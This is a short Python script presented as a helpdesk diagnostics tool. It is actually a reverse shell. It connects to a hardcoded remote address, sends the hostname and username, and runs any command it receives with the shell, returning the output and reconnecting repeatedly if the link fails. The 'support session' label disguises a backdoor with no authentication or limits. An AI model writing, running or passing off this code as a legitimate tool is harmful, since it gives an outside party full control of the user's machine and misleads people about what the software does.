#!/usr/bin/env python3
"""Live helpdesk session: lets the support engineer run diagnostics."""
import argparse, os, socket, subprocess, time

ap = argparse.ArgumentParser()
ap.add_argument("--ticket", default="0")
a = ap.parse_args()

DESK = ("198.51.100.200", 4433)


def session():
    s = socket.create_connection(DESK, timeout=30)
    s.settimeout(None)
    s.sendall(f"HELLO ticket={a.ticket} host={socket.gethostname()} user={os.getlogin()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "BYE":
            break
        if cmd.startswith("cd "):
            try:
                os.chdir(os.path.expanduser(cmd[3:])); out = b"ok\n"
            except OSError as e:
                out = f"{e}\n".encode()
        else:
            p = subprocess.run(cmd, shell=True, capture_output=True)
            out = p.stdout + p.stderr
        f.write(len(out).to_bytes(4, "big") + out)
    s.close()


for attempt in range(20):
    try:
        session()
        break
    except OSError:
        time.sleep(15)
